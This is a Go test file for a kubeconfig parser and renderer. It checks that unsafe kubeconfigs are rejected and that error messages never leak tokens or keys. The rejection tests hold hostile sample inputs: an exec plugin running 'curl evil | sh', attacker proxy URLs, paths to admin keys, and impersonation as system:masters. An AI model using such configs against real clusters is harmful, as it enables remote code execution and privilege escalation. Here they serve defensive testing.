package kubeconfig

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
)

var update = flag.Bool("update", false, "rewrite golden files")

const testdataDir = "../../testdata/kubeconfig"

// testToken is the bearer token of the test kubeconfigs; no error may quote it.
const testToken = "tok-SECRET.eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9.c2lnbmF0dXJl"

func readCA(t testing.TB) []byte {
	t.Helper()
	ca, err := os.ReadFile(filepath.Join(testdataDir, "ca.crt"))
	if err != nil {
		t.Fatal(err)
	}
	return ca
}

// keyPair returns a fresh self-signed client certificate and its key, in PEM.
func keyPair(t testing.TB) (certPEM, keyPEM []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(2),
		Subject:      pkix.Name{CommonName: "reader"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(time.Hour),
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
		pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER})
}

// secretsIn lists forms in which credential data could show up in a message: the raw
// value, its lines, its base64 (as in YAML) and its bytes printed as numbers.
func secretsIn(values ...[]byte) []string {
	var out []string
	for _, v := range values {
		out = append(out, string(v), base64.StdEncoding.EncodeToString(v)[16:48])
		for _, line := range strings.Split(string(v), "\n") {
			if len(line) >= 16 && !strings.HasPrefix(line, "-----") {
				out = append(out, line)
			}
		}
		if len(v) > 80 {
			out = append(out, strings.Trim(fmt.Sprint(v[60:76]), "[]"))
		}
	}
	return out
}

func assertNoSecrets(t *testing.T, msg string, secrets []string) {
	t.Helper()
	for _, s := range secrets {
		if strings.Contains(msg, s) {
			t.Errorf("error message quotes credential data %q:\n%s", s, msg)
		}
	}
}

// baseConfig is a valid kubeconfig using the token, a client certificate and a CA.
func baseConfig(ca, cert, key []byte) *clientcmdapi.Config {
	cfg := clientcmdapi.NewConfig()
	cfg.Clusters["peer"] = &clientcmdapi.Cluster{
		Server:                   "https://peer.example.com:6443",
		CertificateAuthorityData: ca,
	}
	cfg.AuthInfos["reader"] = &clientcmdapi.AuthInfo{
		Token:                 testToken,
		ClientCertificateData: cert,
		ClientKeyData:         key,
	}
	cfg.Contexts["peer"] = &clientcmdapi.Context{Cluster: "peer", AuthInfo: "reader", Namespace: "cluster-registry"}
	cfg.CurrentContext = "peer"
	return cfg
}

func write(t *testing.T, cfg *clientcmdapi.Config) []byte {
	t.Helper()
	out, err := clientcmd.Write(*cfg)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestRenderParseRoundTrip(t *testing.T) {
	ca := readCA(t)
	tests := []struct {
		name string
		in   Reader
	}{
		{"with CA", Reader{ClusterName: "peer-1", Server: "https://10.0.0.1:6443", CAData: ca, Token: testToken}},
		{"system roots", Reader{ClusterName: "peer-2", Server: "https://api.example.com", Token: "abc"}},
		{"path prefix", Reader{ClusterName: "p", Server: "https://proxy.example.com/k8s/clusters/c-1", CAData: ca, Token: "t"}},
		{"IPv6", Reader{ClusterName: "v6", Server: "https://[fd00::1]:6443", Token: "t"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, err := Render(tt.in)
			if err != nil {
				t.Fatalf("Render: %v", err)
			}
			again, err := Render(tt.in)
			if err != nil || !bytes.Equal(out, again) {
				t.Errorf("Render is not deterministic: %v\n%s\n%s", err, out, again)
			}
			if len(tt.in.CAData) == 0 && bytes.Contains(out, []byte("certificate-authority")) {
				t.Errorf("Render wrote CA data although there is none:\n%s", out)
			}
			got, err := Parse(out)
			if err != nil {
				t.Fatalf("Parse(Render()): %v\n%s", err, out)
			}
			want := &rest.Config{
				Host:            tt.in.Server,
				BearerToken:     tt.in.Token,
				TLSClientConfig: rest.TLSClientConfig{CAData: tt.in.CAData},
				UserAgent:       UserAgent,
				QPS:             QPS,
				Burst:           Burst,
				Timeout:         Timeout,
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("Parse(Render()) mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestRenderGolden(t *testing.T) {
	out, err := Render(Reader{
		ClusterName: "peer-1",
		Server:      "https://peer-1.example.com:6443",
		CAData:      readCA(t),
		Token:       "reader-token",
	})
	if err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join(testdataDir, "render.golden.yaml")
	if *update {
		if err := os.WriteFile(golden, out, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), string(out)); diff != "" {
		t.Errorf("Render output differs from %s (-want +got); run go test -update if intended:\n%s", golden, diff)
	}
}

func TestRenderInvalid(t *testing.T) {
	ok := Reader{ClusterName: "c", Server: "https://c.example.com", Token: testToken}
	tests := []struct {
		name   string
		change func(*Reader)
		want   string
	}{
		{"no cluster name", func(r *Reader) { r.ClusterName = "" }, "cluster name is empty"},
		{"no server", func(r *Reader) { r.Server = "" }, "server: missing"},
		{"http server", func(r *Reader) { r.Server = "http://c.example.com" }, `scheme must be https, not "http"`},
		{"bare host", func(r *Reader) { r.Server = "c.example.com:6443" }, "must be an https:// URL"},
		{"no host", func(r *Reader) { r.Server = "https:///api" }, "has no host"},
		{"no token", func(r *Reader) { r.Token = "" }, "token is empty"},
		{"token with newline", func(r *Reader) { r.Token = testToken + "\n" }, "token: contains white space"},
		{"bad CA", func(r *Reader) { r.CAData = []byte("not pem") }, "CA data: holds no PEM certificate"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := ok
			tt.change(&r)
			out, err := Render(r)
			if err == nil {
				t.Fatalf("Render succeeded, want error containing %q:\n%s", tt.want, out)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q does not contain %q", err, tt.want)
			}
			assertNoSecrets(t, err.Error(), []string{testToken})
		})
	}
}

func TestParseAccepts(t *testing.T) {
	ca := readCA(t)
	cert, key := keyPair(t)
	tests := []struct {
		name   string
		change func(*clientcmdapi.Config)
		want   func(*rest.Config)
	}{
		{
			name:   "token, client certificate and CA",
			change: func(*clientcmdapi.Config) {},
			want:   func(*rest.Config) {},
		},
		{
			name: "token only, system roots",
			change: func(c *clientcmdapi.Config) {
				c.AuthInfos["reader"].ClientCertificateData = nil
				c.AuthInfos["reader"].ClientKeyData = nil
				c.Clusters["peer"].CertificateAuthorityData = nil
			},
			want: func(r *rest.Config) {
				r.CertData, r.KeyData, r.CAData = nil, nil, nil
			},
		},
		{
			name:   "client certificate only",
			change: func(c *clientcmdapi.Config) { c.AuthInfos["reader"].Token = "" },
			want:   func(r *rest.Config) { r.BearerToken = "" },
		},
		{
			name:   "no current-context, one context",
			change: func(c *clientcmdapi.Config) { c.CurrentContext = "" },
			want:   func(*rest.Config) {},
		},
		{
			name: "current-context picks among several",
			change: func(c *clientcmdapi.Config) {
				c.Clusters["other"] = &clientcmdapi.Cluster{Server: "https://other.example.com"}
				c.AuthInfos["other"] = &clientcmdapi.AuthInfo{Token: "other-token"}
				c.Contexts["other"] = &clientcmdapi.Context{Cluster: "other", AuthInfo: "other"}
			},
			want: func(*rest.Config) {},
		},
		{
			name: "tls-server-name, disable-compression, path prefix",
			change: func(c *clientcmdapi.Config) {
				c.Clusters["peer"].TLSServerName = "kubernetes.default.svc"
				c.Clusters["peer"].DisableCompression = true
				c.Clusters["peer"].Server = "https://gw.example.com/k8s/clusters/peer/"
			},
			want: func(r *rest.Config) {
				r.ServerName = "kubernetes.default.svc"
				r.DisableCompression = true
				r.Host = "https://gw.example.com/k8s/clusters/peer/"
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := baseConfig(ca, cert, key)
			tt.change(cfg)
			got, err := Parse(write(t, cfg))
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			want := &rest.Config{
				Host:        "https://peer.example.com:6443",
				BearerToken: testToken,
				TLSClientConfig: rest.TLSClientConfig{
					CAData:   ca,
					CertData: cert,
					KeyData:  key,
				},
				UserAgent: UserAgent,
				QPS:       QPS,
				Burst:     Burst,
				Timeout:   Timeout,
			}
			tt.want(want)
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("Parse mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseAcceptsJSON(t *testing.T) {
	in := `{"apiVersion":"v1","kind":"Config","clusters":[{"name":"c","cluster":{"server":"https://c.example.com"}}],
"users":[{"name":"u","user":{"token":"abc"}}],"contexts":[{"name":"x","context":{"cluster":"c","user":"u"}}]}`
	got, err := Parse([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	if got.Host != "https://c.example.com" || got.BearerToken != "abc" {
		t.Errorf("got Host %q, token %q", got.Host, got.BearerToken)
	}
}

// user is a YAML kubeconfig with one user whose fields are given, for the rejections
// that are best written the way an attacker would.
func user(fields string) string {
	return `apiVersion: v1
kind: Config
current-context: peer
clusters:
- name: peer
  cluster:
    server: https://peer.example.com
contexts:
- name: peer
  context: {cluster: peer, user: reader}
users:
- name: reader
  user:
    token: ` + testToken + `
` + fields
}

func TestParseRejects(t *testing.T) {
	ca := readCA(t)
	cert, key := keyPair(t)
	otherCert, otherKey := keyPair(t)
	secrets := secretsIn([]byte(testToken), cert, key, otherCert, otherKey)

	mutate := func(change func(c *clientcmdapi.Config)) func(t *testing.T) []byte {
		return func(t *testing.T) []byte {
			cfg := baseConfig(ca, cert, key)
			change(cfg)
			return write(t, cfg)
		}
	}
	raw := func(s string) func(*testing.T) []byte {
		return func(*testing.T) []byte { return []byte(s) }
	}
	reader := func(c *clientcmdapi.Config) *clientcmdapi.AuthInfo { return c.AuthInfos["reader"] }
	peer := func(c *clientcmdapi.Config) *clientcmdapi.Cluster { return c.Clusters["peer"] }

	tests := []struct {
		name  string
		input func(*testing.T) []byte
		want  string
	}{
		// The document.
		{"empty", raw(""), "invalid kubeconfig: empty"},
		{"too large", func(t *testing.T) []byte {
			b := write(t, baseConfig(ca, cert, key))
			return append(b, []byte("# "+strings.Repeat("x", MaxSize))...)
		}, "more than the limit of 65536"},
		{"garbage", raw("garbage : : :\n\t- x"), "cannot parse: yaml: mapping values are not allowed"},
		{"binary", raw("\x00\x01\x02\xff"), "cannot parse"},
		{"not a Config", raw("apiVersion: v1\nkind: Secret\n"), "not a kubeconfig"},
		{"wrong field type", raw(user("    as-groups: " + testToken + "\n")), "cannot unmarshal string into Go struct field"},
		{"bad base64", raw(user("    client-key-data: " + testToken + "!!\n")), "not valid base64"},
		{"duplicate user name", raw(user("- name: reader\n  user:\n    token: " + testToken + "\n")), `duplicate name "reader" in users`},
		// The conversion error of a duplicate name prints whole users, keys included.
		{"duplicate user name with key", func(t *testing.T) []byte {
			b := write(t, baseConfig(ca, cert, key))
			return bytes.Replace(b, []byte("users:\n"), []byte("users:\n- name: reader\n  user:\n    client-key-data: "+
				base64.StdEncoding.EncodeToString(otherKey)+"\n    token: "+testToken+"\n"), 1)
		}, `duplicate name "reader" in users`},

		// Choosing the context.
		{"no current-context, two contexts", mutate(func(c *clientcmdapi.Config) {
			c.CurrentContext = ""
			c.Contexts["second"] = &clientcmdapi.Context{Cluster: "peer", AuthInfo: "reader"}
		}), "current-context: not set, and there are 2 contexts (need exactly one)"},
		{"no current-context, no contexts", mutate(func(c *clientcmdapi.Config) {
			c.CurrentContext = ""
			delete(c.Contexts, "peer")
		}), "current-context: not set, and there are no contexts"},
		{"current-context missing", mutate(func(c *clientcmdapi.Config) { c.CurrentContext = "nope" }),
			`current-context: context "nope" not found`},
		{"context names missing cluster", mutate(func(c *clientcmdapi.Config) { c.Contexts["peer"].Cluster = "gone" }),
			`context "peer": cluster "gone" not found`},
		{"context names no cluster", mutate(func(c *clientcmdapi.Config) { c.Contexts["peer"].Cluster = "" }),
			`context "peer": names no cluster`},
		{"context names missing user", mutate(func(c *clientcmdapi.Config) { c.Contexts["peer"].AuthInfo = "gone" }),
			`context "peer": user "gone" not found`},
		{"context names no user", mutate(func(c *clientcmdapi.Config) { c.Contexts["peer"].AuthInfo = "" }),
			`context "peer": names no user`},
		{"long name is cut", mutate(func(c *clientcmdapi.Config) { c.CurrentContext = strings.Repeat("n", 1000) }),
			`current-context: context "` + strings.Repeat("n", 64) + `"... not found`}, // document.maxNameLen

		// The cluster.
		{"server missing", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "" }), `cluster "peer": server: missing`},
		{"server http", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "http://peer.example.com" }),
			`cluster "peer": server: scheme must be https, not "http"`},
		{"server bare host:port", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "peer.example.com:6443" }),
			`cluster "peer": server: must be an https:// URL`},
		{"server unix", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "unix:///var/run/k8s.sock" }),
			`cluster "peer": server: scheme must be https, not "unix"`},
		{"server no host", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "https:///api" }),
			`cluster "peer": server: has no host`},
		{"server port only", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "https://:6443" }),
			`cluster "peer": server: has no host`},
		{"server bad port", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "https://peer.example.com:99999" }),
			`cluster "peer": server: invalid port "99999"`},
		{"server user info", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "https://admin:" + testToken + "@peer.example.com" }),
			`cluster "peer": server: must not contain user info`},
		{"server query", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "https://peer.example.com/?x=1" }),
			`cluster "peer": server: must not contain a query`},
		{"server unparseable", mutate(func(c *clientcmdapi.Config) { peer(c).Server = "https://peer example.com" }),
			`cluster "peer": server: not a valid URL`},
		{"certificate-authority", mutate(func(c *clientcmdapi.Config) { peer(c).CertificateAuthority = "/etc/kubernetes/pki/ca.crt" }),
			`cluster "peer": certificate-authority: file paths are not allowed`},
		{"insecure-skip-tls-verify", mutate(func(c *clientcmdapi.Config) {
			peer(c).InsecureSkipTLSVerify = true
			peer(c).CertificateAuthorityData = nil
		}), `cluster "peer": insecure-skip-tls-verify: TLS verification must not be turned off`},
		{"proxy-url", mutate(func(c *clientcmdapi.Config) { peer(c).ProxyURL = "socks5://evil.example.com:1080" }),
			`cluster "peer": proxy-url: proxies are not allowed`},
		{"certificate-authority-data not PEM", mutate(func(c *clientcmdapi.Config) { peer(c).CertificateAuthorityData = []byte("junk") }),
			`cluster "peer": certificate-authority-data: holds no PEM certificate`},

		// The user.
		{"exec", mutate(func(c *clientcmdapi.Config) {
			reader(c).Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil | sh"}, APIVersion: "client.authentication.k8s.io/v1"}
		}), `user "reader": exec: exec credential plugins are not allowed`},
		{"auth-provider", mutate(func(c *clientcmdapi.Config) {
			reader(c).AuthProvider = &clientcmdapi.AuthProviderConfig{Name: "oidc", Config: map[string]string{"id-token": testToken}}
		}), `user "reader": auth-provider: auth provider plugins are not allowed`},
		{"tokenFile", mutate(func(c *clientcmdapi.Config) {
			reader(c).TokenFile = "/var/run/secrets/kubernetes.io/serviceaccount/token"
		}),
			`user "reader": tokenFile: file paths are not allowed`},
		{"client-certificate", mutate(func(c *clientcmdapi.Config) { reader(c).ClientCertificate = "/etc/kubernetes/pki/admin.crt" }),
			`user "reader": client-certificate: file paths are not allowed`},
		{"client-key", mutate(func(c *clientcmdapi.Config) { reader(c).ClientKey = "/etc/kubernetes/pki/admin.key" }),
			`user "reader": client-key: file paths are not allowed`},
		{"username", mutate(func(c *clientcmdapi.Config) { reader(c).Username = "admin" }),
			`user "reader": username/password: basic authentication is not allowed`},
		{"password", mutate(func(c *clientcmdapi.Config) { reader(c).Password = testToken }),
			`user "reader": username/password: basic authentication is not allowed`},
		{"as", raw(user("    as: system:admin\n")), `user "reader": as: impersonation is not allowed`},
		{"as-uid", raw(user("    as-uid: \"0\"\n")), `user "reader": as-uid: impersonation is not allowed`},
		{"as-groups", raw(user("    as-groups: [system:masters]\n")), `user "reader": as-groups: impersonation is not allowed`},
		{"as-user-extra", raw(user("    as-user-extra: {scopes: [all]}\n")), `user "reader": as-user-extra: impersonation is not allowed`},
		{"no credential", mutate(func(c *clientcmdapi.Config) { c.AuthInfos["reader"] = &clientcmdapi.AuthInfo{} }),
			`user "reader": no credential: need token, or client-certificate-data and client-key-data`},
		{"certificate without key", mutate(func(c *clientcmdapi.Config) { reader(c).ClientKeyData = nil }),
			`user "reader": client-key-data: missing (client-certificate-data is set)`},
		{"key without certificate", mutate(func(c *clientcmdapi.Config) { reader(c).ClientCertificateData = nil }),
			`user "reader": client-certificate-data: missing (client-key-data is set)`},
		{"key of another certificate", mutate(func(c *clientcmdapi.Config) { reader(c).ClientKeyData = otherKey }),
			`user "reader": client-certificate-data/client-key-data: tls: private key does not match public key`},
		{"key and certificate swapped", mutate(func(c *clientcmdapi.Config) {
			reader(c).ClientKeyData, reader(c).ClientCertificateData = otherCert, otherKey
		}), `user "reader": client-certificate-data/client-key-data: `},
		{"certificate not PEM", mutate(func(c *clientcmdapi.Config) { reader(c).ClientCertificateData = []byte(testToken) }),
			`user "reader": client-certificate-data/client-key-data: tls: failed to find any PEM data in certificate input`},
		{"token with newline", mutate(func(c *clientcmdapi.Config) { reader(c).Token = testToken + "\n" }),
			`user "reader": token: contains white space`},

		// Entries the current context does not use.
		{"exec in an unused user", mutate(func(c *clientcmdapi.Config) {
			c.AuthInfos["other"] = &clientcmdapi.AuthInfo{Exec: &clientcmdapi.ExecConfig{Command: "sh"}}
		}), `user "other": exec: exec credential plugins are not allowed`},
		{"proxy in an unused cluster", mutate(func(c *clientcmdapi.Config) {
			c.Clusters["other"] = &clientcmdapi.Cluster{Server: "https://other.example.com", ProxyURL: "http://evil:3128"}
		}), `cluster "other": proxy-url: proxies are not allowed`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.input(t))
			if err == nil {
				t.Fatalf("Parse succeeded (Host %q), want an error containing %q", got.Host, tt.want)
			}
			var invalidErr *InvalidError
			if !errors.As(err, &invalidErr) {
				t.Errorf("error %q (%T) is not an *InvalidError", err, err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q\ndoes not contain %q", err, tt.want)
			}
			assertNoSecrets(t, err.Error(), secrets)
		})
	}
}

func TestInvalidErrorMessage(t *testing.T) {
	tests := []struct {
		err  *InvalidError
		want string
	}{
		{&InvalidError{Reason: "empty"}, "invalid kubeconfig: empty"},
		{&InvalidError{Field: `user "u": exec`, Reason: "not allowed"}, `invalid kubeconfig: user "u": exec: not allowed`},
	}
	for _, tt := range tests {
		if diff := cmp.Diff(tt.want, tt.err.Error()); diff != "" {
			t.Errorf("Error() mismatch (-want +got):\n%s", diff)
		}
	}
}
